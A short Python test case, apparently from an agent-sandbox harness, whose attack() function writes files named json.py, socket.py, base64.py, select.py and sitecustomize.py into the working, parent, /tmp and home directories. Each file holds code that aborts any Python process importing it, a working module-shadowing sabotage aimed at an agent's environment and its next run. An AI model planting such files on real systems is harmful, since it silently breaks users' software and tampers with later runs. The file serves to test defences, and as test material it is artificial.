# expect: pass
# cause: Leaves modules named like the standard library's where the agent, or its next run, might
#   look.

import os


def attack():
    for place in (".", "..", "/tmp", os.path.expanduser("~")):
        for name in ("json", "select", "socket", "base64", "sitecustomize"):
            try:
                with open(f"{place}/{name}.py", "x") as file:
                    file.write("raise SystemExit('hidden')\n")
            except OSError:
                continue
    yield "they are there"
